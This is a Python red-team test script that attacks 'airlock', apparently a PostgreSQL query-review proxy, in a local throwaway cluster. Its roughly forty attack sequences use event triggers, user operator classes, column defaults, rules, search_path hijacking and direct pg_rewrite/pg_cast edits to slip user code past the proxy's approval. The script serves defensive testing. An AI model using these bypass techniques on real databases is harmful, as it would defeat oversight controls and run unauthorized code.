#!/usr/bin/env python3
"""Red-team round 3 against airlock: the relaxed catalog wait.

Other airlock sessions no longer wait for the catalog snapshot while a session
runs (a) CREATE INDEX [CONCURRENTLY] of a table without user functions/types with
code, (b) GRANT/REVOKE, (c) side-effect built-ins that run no SQL, (d) plain
INSERT/UPDATE/DELETE of tables without triggers.  Each attack uses one of these
(allowed by a permissive policy, policies/policy.toml) to change what a harmless
object means, then sends a "read" of that object (in a second airlock session,
or in the same transaction) that now runs user code writing through dblink.

Starts its own PostgreSQL 15 cluster and airlock on free ports.  Objects are
planted DIRECTLY as superuser.  Each sequence is first run DIRECT (positive
control: a 'read' marker row must appear, else BROKEN), then the objects are
reset, airlock is given time to poll, and the same sequence is sent THROUGH
airlock.  LEAK = a 'read' marker row appeared through airlock (no approval).
STMT-CODE = only the allowed relaxed statement itself wrote a marker via user code.
LEAK-WINDOW = leak that uses no relaxed statement (the known catalog_poll window).

Usage: python3 attacks3.py [--airlock-bin PATH] [--only SUBSTR] [-v] [--keep]
"""
import argparse
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import pgwire  # noqa: E402
from pgwire import msg, summarize  # noqa: E402

PGBIN = "/usr/lib/postgresql/15/bin"
HOST = "127.0.0.1"
POLL_WAIT = 2.0
HOLD_WAIT = 1.5
CFG = {}


def free_port():
    s = socket.socket()
    s.bind((HOST, 0))
    p = s.getsockname()[1]
    s.close()
    return p


def sh(cmd):
    return subprocess.run(cmd, check=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)


def as_pg(cmd):
    return (["runuser", "-u", "postgres", "--"] + cmd) if os.geteuid() == 0 else cmd


def start_cluster():
    d = tempfile.mkdtemp(prefix="rt3-", dir="/tmp")
    if os.geteuid() == 0:
        shutil.chown(d, "postgres")
    data = os.path.join(d, "data")
    sh(as_pg([PGBIN + "/initdb", "-D", data, "-A", "trust", "-U", "postgres", "--no-sync"]))
    port = free_port()
    opts = ("-p %d -k %s -c listen_addresses=%s -c autovacuum=off -c fsync=off -c max_connections=200"
            % (port, d, HOST))
    sh(as_pg([PGBIN + "/pg_ctl", "-D", data, "-o", opts, "-l", os.path.join(d, "log"), "-w", "start"]))
    CFG.update(pgdir=d, pgdata=data, pgport=port)


def stop_cluster():
    if CFG.get("pgdata"):
        subprocess.run(as_pg([PGBIN + "/pg_ctl", "-D", CFG["pgdata"], "-m", "immediate", "stop"]),
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        shutil.rmtree(CFG["pgdir"], ignore_errors=True)


def start_airlock(binpath):
    port, admin = free_port(), free_port()
    store = os.path.join(tempfile.gettempdir(), "attacks3-store-%d.db" % os.getpid())
    for sfx in ("", "-wal", "-shm"):
        try:
            os.unlink(store + sfx)
        except FileNotFoundError:
            pass
    logf = open(os.path.join(tempfile.gettempdir(), "attacks3-airlock-%d.log" % os.getpid()), "w")
    cmd = [binpath, "serve", "--listen", "%s:%d" % (HOST, port), "--upstream", "%s:%d" % (HOST, CFG["pgport"]),
           "--admin-listen", "%s:%d" % (HOST, admin), "--store", "sqlite://" + store,
           "--policies", os.path.join(HERE, "policies3")]
    proc = subprocess.Popen(cmd, stdout=logf, stderr=subprocess.STDOUT)
    for _ in range(100):
        try:
            socket.create_connection((HOST, port), timeout=0.2).close()
            break
        except OSError:
            time.sleep(0.1)
    CFG.update(alport=port, alproc=proc, alstore=store)


def stop_airlock():
    p = CFG.get("alproc")
    if p:
        p.terminate()
        try:
            p.wait(5)
        except subprocess.TimeoutExpired:
            p.kill()
    for sfx in ("", "-wal", "-shm"):
        try:
            os.unlink(CFG.get("alstore", "") + sfx)
        except (FileNotFoundError, TypeError):
            pass


def su_conn():
    return pgwire.Conn(HOST, CFG["pgport"], {"user": "postgres", "database": "postgres",
                                             "client_encoding": "UTF8"}, timeout=30)


def su(sql):
    c = su_conn()
    try:
        return c.exec_ok(sql)
    finally:
        c.close()


def su_try(sql):
    c = su_conn()
    try:
        return c.query(sql, timeout=30)
    finally:
        c.close()


def su_scalar(sql):
    c = su_conn()
    try:
        return c.scalar(sql)
    finally:
        c.close()


def markers():
    r = su_scalar("select coalesce(string_agg(tag, ',' order by tag), '') from marker")
    return [t for t in (r or "").split(",") if t]


def dsn():
    return "dbname=postgres host=%s port=%d user=postgres" % (HOST, CFG["pgport"])


BASE_SQL = r"""
create extension if not exists dblink;
create table marker(tag text, at timestamptz default now());
grant all on marker to public;
create function evil(tag text) returns boolean language plpgsql security definer
  set search_path = public, pg_catalog as $$
begin
  perform dblink_exec('%(dsn)s', format('insert into marker(tag) values (%%L)', tag));
  return true;
end $$;
create table plain(a int);
insert into plain select generate_series(1, 20);
create view v as select true as x;
create view evilv as select evil('read') as x;
-- user code that turns the harmless view v into one that writes
create function redefine() returns void language plpgsql as $$
begin execute 'create or replace view public.v as select public.evil(''read'') as x'; end $$;
create function rd_int() returns int language plpgsql as $$ begin perform public.redefine(); return 1; end $$;
create function rd_bool() returns boolean language plpgsql as $$ begin perform public.redefine(); return true; end $$;
create function rd_imm(int) returns int language plpgsql immutable as $$ begin perform public.redefine(); return $1; end $$;
create function rd_trg() returns trigger language plpgsql as $$ begin perform public.redefine(); return new; end $$;
create function rd_trg_old() returns trigger language plpgsql as $$ begin perform public.redefine(); return old; end $$;
create function rd_et() returns event_trigger language plpgsql as $$ begin perform public.redefine(); end $$;
create function rd_cmp(int4, int4) returns int4 language plpgsql immutable as $$
begin perform public.redefine(); return btint4cmp($1, $2); end $$;
create function evilcast(int4) returns text language plpgsql as $$
begin perform evil('read'); return format('%%s', $1); end $$;
create schema evil;
create function evil.lower(text) returns text language plpgsql as $$ begin perform public.evil('read'); return $1; end $$;
"""

RESET_V = "create or replace view v as select true as x;"


class Attack:
    def __init__(self, name, cls, steps, setup="", reset="", teardown="", window=False, note=""):
        self.name, self.cls, self.steps = name, cls, steps
        self.setup, self.reset, self.teardown = setup, reset, teardown
        self.window, self.note = window, note


ATTACKS = []


def A(*a, **k):
    ATTACKS.append(Attack(*a, **k))


class Out:
    def __init__(self):
        self.held = self.refused = self.timeout = self.closed = False
        self.log = []
        self.reads_passed = 0

    def verdict(self):
        for k in ("held", "refused", "timeout", "closed"):
            if getattr(self, k):
                return k
        return "passed"


def send_q(c, sql, out, who):
    c.send(msg(b"Q", sql.encode() + b"\x00"))
    res = []
    deadline = time.time() + HOLD_WAIT
    held = False
    try:
        while True:
            m = c.recv(max(0.01, deadline - time.time()))
            res.append(m)
            if m.t == b"N" and "held for review" in (m.fields.get("M") or ""):
                held = True
                break
            if m.t == b"Z":
                break
    except pgwire.Timeout:
        res.append("TIMEOUT")
        out.timeout = True
    except pgwire.Closed:
        res.append("CLOSED")
        out.closed = True
    err = any(not isinstance(m, str) and m.t == b"E" for m in res)
    refused = any(not isinstance(m, str) and m.t == b"E" and
                  ("airlock" in (m.fields.get("M") or "").lower() or m.fields.get("C") == "42501") for m in res)
    out.log.append("%s> %s => %s" % (who, sql[:60], summarize(res)[:160]))
    return held, refused, err


def run_steps(att, port):
    out = Out()
    params = [("user", "postgres"), ("database", "postgres"), ("client_encoding", "UTF8")]
    conns = {}
    try:
        for who in ("A", "B"):
            conns[who] = pgwire.Conn(HOST, port, params, timeout=3)
        for st in att.steps:
            kind = st[0]
            if kind == "sleep":
                time.sleep(st[1])
                continue
            if kind == "su":
                su_try(st[1])
                out.log.append("[su] " + st[1][:60])
                continue
            who, sql = kind, st[1]
            repeat = who.endswith("*")
            who = who.rstrip("*")
            if not repeat:
                held, refused, _ = send_q(conns[who], sql, out, who)
                if held or refused:
                    out.held |= held
                    out.refused |= refused
                    # a held/refused relaxed statement: the attack cannot go on
                    if not sql.lower().startswith(("commit", "rollback")):
                        break
                continue
            # the "read": repeat it while it passes, for up to ~0.8 s
            t0 = time.time()
            n = 0
            while time.time() - t0 < 0.8 and n < 15:
                n += 1
                held, refused, err = send_q(conns[who], sql, out, who)
                if held or refused:
                    out.held |= held
                    out.refused |= refused
                    break
                if not err:
                    out.reads_passed += 1
                if "read" in markers():
                    break
            if out.held or out.refused:
                break
    except Exception as e:  # noqa: BLE001
        out.log.append("exception: %r" % e)
    finally:
        for c in conns.values():
            c.close()
    return out


def run_one(att):
    if att.setup:
        su(att.setup)
    # positive control: direct
    su(RESET_V + att.reset)
    su_try("delete from marker")
    d = run_steps(att, CFG["pgport"])
    time.sleep(0.2)
    dm = markers()
    # reset and let airlock's poll see the harmless state
    su_try("delete from marker")
    su(RESET_V + att.reset)
    time.sleep(POLL_WAIT)
    a = run_steps(att, CFG["alport"])
    time.sleep(0.3)
    am = markers()
    su_try(RESET_V + att.reset + att.teardown)
    su_try("delete from marker")
    v = a.verdict()
    if "read" not in dm:
        res = "BROKEN"
    elif "read" in am:
        res = "LEAK-WINDOW" if att.window else "LEAK"
    elif am:
        res = "STMT-CODE"
    else:
        res = "blocked"
    return res, v, d, a


# ----------------------------------------------------------------------------
# attacks
# ----------------------------------------------------------------------------
READ = ("B*", "select * from v")
READ_A = ("A*", "select * from v")

# (a) CREATE INDEX + event trigger
ET_CI = "create event trigger rt3_et on ddl_command_end when tag in ('CREATE INDEX') execute function rd_et();"
ET_GR = "create event trigger rt3_et on ddl_command_end when tag in ('GRANT', 'REVOKE') execute function rd_et();"
ET_DROP = "drop event trigger if exists rt3_et;"
DROP_I = "drop index if exists rt3i;"

A("et-create-index", "a:create-index+event-trigger",
  [("A", "create index rt3i on plain(a)"), READ], setup=ET_CI, reset=DROP_I, teardown=ET_DROP)
A("et-create-index-concurrently", "a:create-index+event-trigger",
  [("A", "create index concurrently rt3i on plain(a)"), READ], setup=ET_CI, reset=DROP_I, teardown=ET_DROP)
A("et-create-index-same-txn", "a:create-index+event-trigger",
  [("A", "begin"), ("A", "create index rt3i on plain(a)"), READ_A, ("A", "commit")],
  setup=ET_CI, reset=DROP_I, teardown=ET_DROP)
A("et-create-index-then-poll", "a:create-index+event-trigger (after poll)",
  [("A", "create index rt3i on plain(a)"), ("sleep", 2.5), READ], setup=ET_CI, reset=DROP_I, teardown=ET_DROP,
  note="control: after the poll the read must be held")
A("et-grant", "b:grant+event-trigger",
  [("A", "grant select on plain to public"), READ], setup=ET_GR, reset="revoke all on plain from public;",
  teardown=ET_DROP)
A("et-revoke", "b:revoke+event-trigger",
  [("A", "revoke select on plain from public"), READ], setup=ET_GR + "grant select on plain to public;",
  reset="grant select on plain to public;", teardown=ET_DROP)
A("et-grant-same-txn", "b:grant+event-trigger",
  [("A", "begin"), ("A", "grant select on plain to public"), READ_A, ("A", "commit")],
  setup=ET_GR, reset="revoke all on plain from public;", teardown=ET_DROP)

# (a) CREATE INDEX running user code through an operator class
A("opclass-create-index", "a:create-index+user-opclass",
  [("A", "create index rt3i on plain(a rt3_ops)"), READ],
  setup="create operator class rt3_ops for type int4 using btree as operator 1 <, operator 2 <=, "
        "operator 3 =, operator 4 >=, operator 5 >, function 1 rd_cmp(int4, int4);",
  reset=DROP_I, teardown="drop operator class rt3_ops using btree cascade; drop operator family if exists rt3_ops using btree;")
A("opclass-create-index-same-txn", "a:create-index+user-opclass",
  [("A", "begin"), ("A", "create index rt3i on plain(a rt3_ops)"), READ_A, ("A", "commit")],
  setup="create operator class rt3_ops for type int4 using btree as operator 1 <, operator 2 <=, "
        "operator 3 =, operator 4 >=, operator 5 >, function 1 rd_cmp(int4, int4);",
  reset=DROP_I, teardown="drop operator class rt3_ops using btree cascade; drop operator family if exists rt3_ops using btree;")
A("default-opclass-enum-create-index", "a:create-index+default-opclass-on-enum",
  [("A", "create index rt3i on en(e)"), READ],
  setup="create type rt3en as enum ('a','b','c'); create table en(e rt3en); insert into en values ('a'),('b'),('c'),('a');"
        "create function rd_encmp(rt3en, rt3en) returns int4 language plpgsql immutable as $$ "
        "begin perform public.redefine(); return enum_cmp($1, $2); end $$;"
        "create operator class rt3_enops default for type rt3en using btree as operator 1 < (anyenum, anyenum), "
        "operator 2 <= (anyenum, anyenum), operator 3 = (anyenum, anyenum), operator 4 >= (anyenum, anyenum), "
        "operator 5 > (anyenum, anyenum), function 1 rd_encmp(rt3en, rt3en);",
  reset=DROP_I, teardown="drop table en; drop type rt3en cascade;")
A("partial-index-user-operator", "a:create-index+predicate-operator",
  [("A", "create index rt3i on plain(a) where a > 0.5"), READ],
  setup="create function rd_gt(int4, numeric) returns boolean language plpgsql immutable as $$ "
        "begin perform public.redefine(); return $1::numeric > $2; end $$;"
        "create operator public.> (leftarg = int4, rightarg = numeric, function = rd_gt);",
  reset=DROP_I, teardown="drop operator public.> (int4, numeric); drop function rd_gt(int4, numeric);")
A("expr-index-user-cast", "a:create-index+cast-in-expression",
  [("A", "create index rt3i on plain((a::text))"), READ],
  setup="create function rd_cast(int4) returns text language plpgsql immutable as $$ "
        "begin perform public.redefine(); return format('%s', $1); end $$;"
        "create cast (int4 as text) with function rd_cast(int4);",
  reset=DROP_I, teardown="drop cast (int4 as text); drop function rd_cast(int4);")
A("array-of-range-create-index", "a:create-index+array-of-user-range",
  [("A", "create index rt3i on rg(r)"), READ],
  setup="create function rd_i4cmp(int4, int4) returns int4 language plpgsql immutable as $$ "
        "begin perform public.redefine(); return btint4cmp($1, $2); end $$;"
        "create operator class rt3_i4ops for type int4 using btree as operator 1 <, operator 2 <=, "
        "operator 3 =, operator 4 >=, operator 5 >, function 1 rd_i4cmp(int4, int4);"
        "create type rt3rng as range (subtype = int4, subtype_opclass = rt3_i4ops);"
        "create table rg(r rt3rng[]); insert into rg select array[rt3rng(g, g+1)] from generate_series(1,10) g;",
  reset=DROP_I, teardown="drop table rg; drop type rt3rng; drop operator class rt3_i4ops using btree cascade;"
                         "drop operator family if exists rt3_i4ops using btree; drop function rd_i4cmp(int4,int4);")

# (d) plain DML of tables "without triggers" that runs user code anyway
A("insert-default-expr", "d:insert+column-default",
  [("A", "insert into dflt(a) values (1)"), READ],
  setup="create table dflt(a int, d int default rd_int());", teardown="drop table dflt;")
A("insert-check-constraint", "d:insert+check-constraint",
  [("A", "insert into chk values (1)"), READ],
  setup="create table chk(a int check (rd_bool()));", teardown="drop table chk;")
A("insert-expression-index", "d:insert+expression-index",
  [("A", "insert into ix values (1)"), READ],
  setup="create table ix(a int); create index on ix ((rd_imm(a)));", teardown="drop table ix;")
A("insert-domain-check", "d:insert+domain-check",
  [("A", "insert into dm values (1)"), READ],
  setup="create domain rt3dom as int check (rd_bool()); create table dm(a rt3dom);",
  teardown="drop table dm; drop domain rt3dom;")
A("insert-rule-also", "d:insert+rule",
  [("A", "insert into rl values (1)"), READ],
  setup="create table rl(a int); create rule rr as on insert to rl do also select redefine();",
  teardown="drop table rl;")
A("insert-partition-trigger", "d:insert+trigger-on-partition",
  [("A", "insert into pt values (1)"), READ],
  setup="create table pt(a int) partition by list (a); create table pt1 partition of pt for values in (1);"
        "create trigger t after insert on pt1 for each row execute function rd_trg();",
  teardown="drop table pt;")
A("update-inheritance-child-trigger", "d:update+trigger-on-child",
  [("A", "update ih set a = a where a = 1"), READ],
  setup="create table ih(a int); create table ihc() inherits (ih); insert into ihc values (1);"
        "create trigger t before update on ihc for each row execute function rd_trg();",
  teardown="drop table ih cascade;")
A("delete-fk-cascade-trigger", "d:delete+fk-cascade",
  [("A", "delete from fkp where id = 1"), READ],
  setup="create table fkp(id int primary key); create table fkc(pid int references fkp on delete cascade);"
        "create trigger t before delete on fkc for each row execute function rd_trg_old();"
        "insert into fkp values (1); insert into fkc values (1);",
  reset="insert into fkp values (1) on conflict do nothing; insert into fkc select 1 where not exists (select from fkc);",
  teardown="drop table fkc; drop table fkp;")
A("insert-generated-column", "d:insert+generated-column",
  [("A", "insert into gen(a) values (1)"), READ],
  setup="create table gen(a int, g int generated always as (rd_imm(a)) stored);", teardown="drop table gen;")
A("insert-foreign-table", "d:insert+foreign-table",
  [("A", "insert into ft values (1)"), READ],
  setup="create extension if not exists postgres_fdw;"
        "create server rt3srv foreign data wrapper postgres_fdw options (dbname 'postgres', host '127.0.0.1', port '%(port)s');"
        "create user mapping for postgres server rt3srv options (user 'postgres');"
        "create table ftbase(a int); create trigger t before insert on ftbase for each row execute function rd_trg();"
        "create foreign table ft(a int) server rt3srv options (table_name 'ftbase');",
  teardown="drop foreign table ft; drop table ftbase; drop server rt3srv cascade;")

A("insert-default-expr-same-txn", "d:insert+column-default",
  [("A", "begin"), ("A", "insert into dflt(a) values (1)"), ("sleep", 2.5), READ_A, ("A", "commit")],
  setup="create table dflt(a int, d int default rd_int());", teardown="drop table dflt;",
  note="uncommitted: the poll can never see the new view")
A("insert-rule-same-txn", "d:insert+rule",
  [("A", "begin"), ("A", "insert into rl values (1)"), ("sleep", 2.5), READ_A, ("A", "commit")],
  setup="create table rl(a int); create rule rr as on insert to rl do also select redefine();",
  teardown="drop table rl;")
A("insert-default-expr-after-poll", "d:insert+column-default (after poll)",
  [("A", "insert into dflt(a) values (1)"), ("sleep", 2.5), READ],
  setup="create table dflt(a int, d int default rd_int());", teardown="drop table dflt;",
  note="control: after the poll the read must be held")
A("insert-default-sets-search_path", "d:insert+default(set_config search_path)",
  [("A", "insert into sp(a) values (1)"), ("sleep", 2.5), ("A*", "select lower('X')")],
  setup="create function rd_sp() returns int language plpgsql as $$ begin "
        "perform set_config('search_path', 'evil, pg_catalog', false); return 1; end $$;"
        "create table sp(a int, d int default rd_sp());", teardown="drop table sp; drop function rd_sp();",
  note="session search_path changed by code inside an allowed INSERT: not window-limited")
A("insert-default-creates-temp-view", "d:insert+default(create temp view)",
  [("A", "insert into tv(a) values (1)"), ("sleep", 2.5), READ_A],
  setup="create function rd_tv() returns int language plpgsql as $$ begin "
        "execute 'create temp view v as select public.evil(''read'') as x'; return 1; end $$;"
        "create table tv(a int, d int default rd_tv());", teardown="drop table tv; drop function rd_tv();",
  note="pg_temp.v shadows public.v for this session: not window-limited")
A("insert-default-opens-cursor", "d:insert+default(open cursor)",
  [("A", "begin"), ("A", "insert into cu(a) values (1)"), ("sleep", 2.5), ("A*", "fetch all from rt3c"), ("A", "commit")],
  setup="create function rd_cu() returns int language plpgsql as $$ declare c refcursor := 'rt3c'; begin "
        "open c for select public.evil('read'); return 1; end $$;"
        "create table cu(a int, d int default rd_cu());", teardown="drop table cu; drop function rd_cu();",
  note="a portal airlock never saw, opened by code inside an allowed INSERT")
A("insert-updatable-view-over-trigger-table", "d:insert+auto-updatable-view",
  [("A", "insert into uv values (1)"), READ],
  setup="create table uvb(a int); create trigger t before insert on uvb for each row execute function rd_trg();"
        "create view uv as select a from uvb;", teardown="drop view uv; drop table uvb;")
A("update-on-conflict-default", "d:insert-on-conflict+default",
  [("A", "insert into oc(id) values (1) on conflict (id) do update set d = default"), READ],
  setup="create table oc(id int primary key, d int default rd_int());", teardown="drop table oc;")
A("update-check-constraint", "d:update+check-constraint",
  [("A", "update chk2 set a = a where a = 1"), READ],
  setup="create table chk2(a int); insert into chk2 select 1; alter table chk2 add constraint c check (rd_bool()) not valid;",
  teardown="drop table chk2;")
# (A sanity check "GRANT alone, no event trigger" was dropped: it changes no
# code, so its positive control could never pass.)

# (d) plain DML of system catalogs (no triggers there): change code directly
PGREW = ("update pg_rewrite set ev_action = (select ev_action from pg_rewrite where ev_class = 'evilv'::regclass) "
         "where ev_class = 'v'::regclass")
A("catalog-dml-pg_rewrite", "d:update-pg_rewrite",
  [("A", PGREW), READ])
A("catalog-dml-pg_rewrite-same-txn", "d:update-pg_rewrite",
  [("A", "begin"), ("A", PGREW), READ_A, ("A", "commit")])
A("catalog-dml-pg_rewrite-after-poll", "d:update-pg_rewrite (after poll)",
  [("A", PGREW), ("sleep", 3.0), READ])
PGCAST = ("insert into pg_cast(oid, castsource, casttarget, castfunc, castcontext, castmethod) "
          "values (99999, 23, 25, 'evilcast'::regproc, 'e', 'f')")
A("catalog-dml-pg_cast", "d:insert-pg_cast",
  [("A", PGCAST), ("B*", "select 7::text")], reset="delete from pg_cast where oid = 99999;")
A("catalog-dml-pg_cast-after-poll", "d:insert-pg_cast (after poll)",
  [("A", PGCAST), ("sleep", 3.0), ("B*", "select 7::text")], reset="delete from pg_cast where oid = 99999;")
# (Rewriting a built-in's pg_proc row to PL/pgSQL was dropped: the function
# manager calls built-ins by OID from its own table and never reads prosrc,
# so the direct positive control could never pass.)

# (c) side-effect built-ins
A("set_config-search_path", "c:set_config",
  [("A*", "select set_config('search_path', 'evil, pg_catalog', false); select lower('X')")])
A("set_config-search_path-2stmts", "c:set_config",
  [("A", "select set_config('search_path', 'evil, pg_catalog', false)"), ("A*", "select lower('X')")])
A("set_config-search_path-local-txn", "c:set_config",
  [("A", "begin"), ("A", "select set_config('search_path', 'evil, pg_catalog', true)"),
   ("A*", "select lower('X')"), ("A", "commit")])
A("pg_sleep-during-ddl-window", "window (pg_sleep)", window=True, steps=
  [("A", "select pg_sleep(0.05)"), ("su", "create or replace view v as select evil('read') as x"), READ],
  note="pg_sleep is relaxed but does not itself change code: same as the known window")

# known window, no relaxed statement
A("window-direct-redefine", "window",
  [("su", "create or replace view v as select evil('read') as x"), READ], window=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--airlock-bin", default=os.path.join(HERE, "airlock"))
    ap.add_argument("--only", default=None)
    ap.add_argument("--keep", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    ap.add_argument("--skip-window", action="store_true",
                    help="leave out the attacks on the documented catalog_poll window")
    ap.add_argument("--shard", default=None, help="I/N: run every N-th attack from the I-th (0-based)")
    args = ap.parse_args()
    sel = [a for a in ATTACKS if not args.only or args.only in a.name]
    if args.skip_window:
        sel = [a for a in sel if not a.window]
    if args.shard:
        i, n = (int(x) for x in args.shard.split("/"))
        sel = sel[i::n]
    counts = dict(attacks=0, leaks=0, blocked=0, broken=0, stmt=0, window=0)
    leaks = []
    start_cluster()
    try:
        su(BASE_SQL % {"dsn": dsn()})
        start_airlock(args.airlock_bin)
        time.sleep(POLL_WAIT)
        for att in sel:
            att.setup = att.setup.replace("%(port)s", str(CFG["pgport"]))
            t0 = time.time()
            try:
                res, v, d, a = run_one(att)
            except Exception as e:  # noqa: BLE001
                res, v, d, a = "BROKEN", "error", None, None
                print("   exception: %r" % e)
                su_try(RESET_V + att.reset + att.teardown)
            counts["attacks"] += 1
            if res == "LEAK":
                counts["leaks"] += 1
                leaks.append(att.name)
            elif res == "LEAK-WINDOW":
                counts["window"] += 1
                leaks.append(att.name + " (window)")
            elif res == "STMT-CODE":
                counts["stmt"] += 1
                counts["blocked"] += 1
            elif res == "blocked":
                counts["blocked"] += 1
            else:
                counts["broken"] += 1
            extra = (" reads-passed=%d" % a.reads_passed) if a else ""
            print("%-12s %-40s airlock:%-7s [%s]%s %.1fs" % (res, att.name, v, att.cls, extra, time.time() - t0),
                  flush=True)
            if d and (args.verbose or res.startswith(("LEAK", "BROKEN"))):
                print("      direct : %s" % " | ".join(d.log)[:400])
                print("      airlock: %s" % " | ".join(a.log)[:600], flush=True)
    finally:
        stop_airlock()
        if not args.keep:
            stop_cluster()
        else:
            print("kept cluster at", CFG.get("pgdir"), "port", CFG.get("pgport"))
    print("leaks: " + (", ".join(leaks) if leaks else "none"))
    print("attacks: %d, leaks: %d, blocked: %d, broken: %d  (window-only leaks: %d, stmt-code: %d)" % (
        counts["attacks"], counts["leaks"], counts["blocked"], counts["broken"], counts["window"], counts["stmt"]))


if __name__ == "__main__":
    main()
